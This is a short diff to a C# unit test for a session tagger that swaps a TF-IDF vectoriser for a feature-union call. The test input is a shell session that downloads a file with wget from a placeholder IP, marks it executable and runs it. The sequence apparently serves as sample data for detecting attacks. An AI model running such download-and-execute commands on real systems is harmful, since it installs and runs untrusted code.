@@ -136,7 +136,7 @@ public class SessionTaggerTests
     {
         string[] statements = ["wget http://192.0.2.1/x", "chmod +x x", "./x"];
         double[] r = [0.1, 0.9, 0.7, 0.3, 0.5, 0.5];   // (T = 3, S = 2)
-        var text = TfidfVectorizer.Fit(statements, new TfidfOptions());
+        var text = TfidfFeatureUnion.Fit(statements, [new TfidfOptions()]);
         int dc = text.FeatureCount;
         foreach (bool neighbours in new[] { false, true })
         {
